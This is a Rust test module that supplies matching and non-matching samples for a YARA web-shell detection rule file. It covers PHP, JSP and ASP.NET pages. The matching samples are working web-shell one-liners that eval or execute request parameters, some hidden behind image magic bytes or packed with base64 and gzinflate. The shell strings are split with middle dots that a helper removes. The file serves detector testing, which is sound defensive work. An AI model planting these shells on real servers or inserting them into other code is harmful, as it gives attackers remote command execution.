//! `webshells.yar`: pages that hand request input to an interpreter.

use super::build::{base64, noise};
use super::{Sample, hit, miss, plain};

const EVAL: &str = "Backdoor.PHP.WebShell.EvalInput";
const COMMAND: &str = "Backdoor.PHP.WebShell.CommandInput";
const PACKED: &str = "Heur.PHP.PackedEval";
const JSP: &str = "Backdoor.JSP.WebShell.ExecInput";
const ASP_EVAL: &str = "Backdoor.ASP.WebShell.EvalInput";
const ASP_PROCESS: &str = "Backdoor.ASP.WebShell.ProcessInput";

pub(super) fn samples() -> Vec<Sample> {
    [php_eval(), php_command(), php_packed(), jsp(), asp_eval(), asp_process()]
        .into_iter()
        .flatten()
        .collect()
}

fn php_eval() -> Vec<Sample> {
    let call = plain("@ev·al($_PO·ST['pass']);");
    let picture =
        [b"\xFF\xD8\xFF\xE0".as_slice(), &noise(300), format!("<?php {call} ?>").as_bytes()]
            .concat();
    vec![
        hit(EVAL, "one line", format!("<?php {call}?>")),
        hit(EVAL, "short tag", plain("<?=ev·al($_GE·T[1]);")),
        hit(EVAL, "behind a picture's mark", format!("GIF89a;\n<?php\n{call}\n?>\n")),
        hit(EVAL, "in a photograph", picture),
        hit(
            EVAL,
            "appended to a page",
            format!("<html><body>Hello</body></html>\n<?php\n  {call} ?>"),
        ),
        hit(
            EVAL,
            "decoded first",
            plain("<?php\n$x = 1;\nass·ert(base64_·decode($_REQU·EST['z']));\n"),
        ),
        hit(EVAL, "raw body", plain("<?php ev·al(file_get_·contents('php://in·put'));")),
        hit(
            EVAL,
            "evaluating replacement",
            plain("<?php preg_repl·ace('/.*/e', $_PO·ST['c'], '');"),
        ),
        hit(EVAL, "function from the request", plain("<?php $_GE·T['f']($_PO·ST['a']);")),
        miss(
            EVAL,
            "documentation",
            format!("# Web shells\n\nThe shortest one is `<?php {call}?>`.\n"),
        ),
        miss(EVAL, "fenced example", format!("```php\n<?php {call}\n```\n")),
        miss(
            EVAL,
            "comment that warns",
            plain("<?php\n// never ev·al($_PO·ST['x']) here\n$y = intval($_POST['x']);\n"),
        ),
        miss(
            EVAL,
            "array element checked",
            plain("<?php\nassert(isset($_POST['x']));\n$v = eval($template);\n"),
        ),
        miss(
            EVAL,
            "unit test's text",
            plain("<?php\n$bad = \"ev·al($_PO·ST['x'])\";\n$this->refuses($bad);\n"),
        ),
    ]
}

fn php_command() -> Vec<Sample> {
    let call = plain("sys·tem($_GE·T['cmd']);");
    vec![
        hit(COMMAND, "one line", format!("<?php {call} ?>")),
        hit(
            COMMAND,
            "printed",
            plain("<pre><?php echo shell_·exec($_REQU·EST['c'].' 2>&1'); ?></pre>"),
        ),
        hit(COMMAND, "silenced, behind a picture's mark", format!("GIF89a\n<?php @{call}")),
        hit(COMMAND, "in backticks", plain("<?php echo `$_GE·T[0]`;")),
        hit(
            COMMAND,
            "from a header",
            plain("<?php if (1) { pass·thru(base64_·decode($_SER·VER['HTTP_X'])); }"),
        ),
        hit(
            COMMAND,
            "in two steps",
            plain(
                "<?php\nif (isset($_REQUEST['cmd'])) {\n  $c·md = ($_REQU·EST['cmd']);\n  sys·tem($c·md);\n}\n?>",
            ),
        ),
        miss(
            COMMAND,
            "value looked up",
            plain("<?php\n$c·md = $_REQU·EST['cmd'];\n$tool = $tools[$cmd];\nsystem($tool);\n"),
        ),
        miss(COMMAND, "escaped argument", "<?php system('ls ' . escapeshellarg($_GET['dir']));\n"),
        miss(
            COMMAND,
            "database method",
            "<?php\n$db = open();\n$db->exec($_POST['query_name']);\n",
        ),
        miss(COMMAND, "other function", "<?php\n$r = curl_exec($_POST['handle']);\n"),
        miss(
            COMMAND,
            "manual page",
            format!("Warning: a page such as <?php {call} ?> runs anything.\n"),
        ),
        miss(
            COMMAND,
            "comment",
            plain("<?php\n/* do not write\n * sys·tem($_GE·T['cmd'])\n */\nsystem('uptime');\n"),
        ),
    ]
}

fn php_packed() -> Vec<Sample> {
    let literal = base64(&noise(240));
    vec![
        hit(
            PACKED,
            "inflated",
            format!("<?php {}('{literal}')));", plain("ev·al(gzin·flate(base64_·decode")),
        ),
        hit(
            PACKED,
            "decoded",
            format!("<?php\n{}(\"{literal}\"));\n", plain("ev·al(base64_·decode")),
        ),
        hit(
            PACKED,
            "closed and rotated",
            format!(
                "<?php {}('{literal}'))));",
                plain("@ev·al('?>'.gzuncom·press(str_rot13(base64_·decode")
            ),
        ),
        miss(PACKED, "picture in base64", format!("<?php echo base64_decode('{literal}');\n")),
        miss(PACKED, "short literal", plain("<?php ev·al(base64_·decode('ZWNobyAxOw=='));\n")),
        miss(
            PACKED,
            "rule of a scanner",
            plain("rule x { strings: $a = \"ev·al(gzin·flate(base64_·decode(\" condition: $a }\n"),
        ),
    ]
}

fn jsp() -> Vec<Sample> {
    let call = plain("Runtime.getRun·time().exec(request.getPara·meter(\"cmd\"))");
    vec![
        hit(JSP, "one line", format!("<% {call}; %>")),
        hit(
            JSP,
            "with a page directive",
            format!("<%@ page import=\"java.io.*\" %>\n<%\nProcess p = {call};\n%>\n"),
        ),
        hit(
            JSP,
            "in two steps",
            plain(
                "<%@page import=\"java.io.*\"%>\n<%\n\
                 String cmd = request.getPara·meter(\"cmd\");\nif (cmd != null) {\n  \
                 Process p = Runtime.getRun·time().exec(\"cmd /c \" + cmd);\n}\n%>",
            ),
        ),
        hit(
            JSP,
            "process builder",
            plain("<html><% new Process·Builder(request.getPara·meter(\"c\")).start(); %></html>"),
        ),
        hit(
            JSP,
            "behind a comment",
            format!("// a note\n\n<FORM METHOD=GET></FORM>\n<% {call}; %>\n"),
        ),
        miss(JSP, "article", format!("How JSP shells work\n\n<% {call} %> is all it takes.\n")),
        miss(
            JSP,
            "fixed command",
            "<% Process p = Runtime.getRuntime().exec(\"uptime\"); String n = request.getParameter(\"name\"); %>",
        ),
        miss(
            JSP,
            "parameter shown",
            "<%@ page language=\"java\" %>\nHello <%= request.getParameter(\"name\") %>\n",
        ),
    ]
}

fn asp_eval() -> Vec<Sample> {
    vec![
        hit(
            ASP_EVAL,
            "one line, ASP.NET",
            plain("<%@ Page Language=\"Jscript\"%><%ev·al(Requ·est.Item[\"pass\"],\"unsafe\");%>"),
        ),
        hit(ASP_EVAL, "one line, ASP", plain("<%ev·al requ·est(\"pass\")%>")),
        hit(
            ASP_EVAL,
            "executed",
            plain("<%\nOn Error Resume Next\nExecute·Global(Requ·est.Form(\"z\"))\n%>"),
        ),
        miss(
            ASP_EVAL,
            "data binding",
            "<%@ Page Language=\"C#\" %>\n<td><%# Eval(\"RequestDate\") %></td>\n",
        ),
        miss(
            ASP_EVAL,
            "value shown",
            "<%\nResponse.Write Server.HTMLEncode(Request(\"name\"))\n%>",
        ),
        miss(
            ASP_EVAL,
            "documentation",
            plain("Remove pages such as <%ev·al requ·est(\"pass\")%> at once.\n"),
        ),
    ]
}

fn asp_process() -> Vec<Sample> {
    let page = "<%@ Page Language=\"C#\" %>\n<% ";
    vec![
        hit(
            ASP_PROCESS,
            "direct",
            page.to_owned() + &plain("Process.St·art(\"cmd.exe\", \"/c \" + Requ·est[\"c\"]); %>"),
        ),
        hit(
            ASP_PROCESS,
            "start information",
            page.to_owned()
                + &plain(
                    "string a = Requ·est.Form[\"c\"];\nvar psi = new ProcessStartInfo();\n\
                     psi.File·Name = \"cmd.exe\";\npsi.Argu·ments = \"/c \" + a;\n\
                     Process.Start(psi);\n%>",
                ),
        ),
        hit(
            ASP_PROCESS,
            "shell object",
            plain(
                "<%\nSet w = Server.CreateObject(\"WScr·ipt.Shell\")\nSet e = w.Ex·ec(\"cmd /c \" & Requ·est.QueryString(\"c\"))\n%>",
            ),
        ),
        hit(
            ASP_PROCESS,
            "text box",
            page.to_owned()
                + &plain(
                    "psi.File·Name = \"cmd.exe\"; psi.Argu·ments = \"/c \" + arg; %><asp:Text·Box id=\"a\" runat=\"server\"/>",
                ),
        ),
        hit(
            ASP_PROCESS,
            "shell object in two steps",
            plain(
                "<%\nSet o = Server.CreateObject(\"WSCR·IPT.SHELL\")\n\
                 szC·MD = requ·est(\"c\")\n\
                 Call o.Ru·n(\"cmd.exe /c \" & szC·MD & \" > \" & t, 0, True)\n%>",
            ),
        ),
        miss(
            ASP_PROCESS,
            "shell object, fixed command",
            "<%\nSet o = Server.CreateObject(\"WScript.Shell\")\ncmd = Request(\"view\")\no.Run \"cmd /c sync.bat\", 0\n%>",
        ),
        miss(
            ASP_PROCESS,
            "fixed program",
            format!(
                "{page}Process.Start(\"C:\\\\tools\\\\report.exe\"); var n = Request[\"n\"]; %>"
            ),
        ),
        miss(
            ASP_PROCESS,
            "fixed arguments",
            format!("{page}p.FileName = \"cmd.exe\"; p.Arguments = \"/c dir\"; %>"),
        ),
        miss(
            ASP_PROCESS,
            "not a page",
            plain("A page that calls Process.St·art(\"cmd.exe\", Requ·est[\"c\"]) is lost.\n"),
        ),
    ]
}
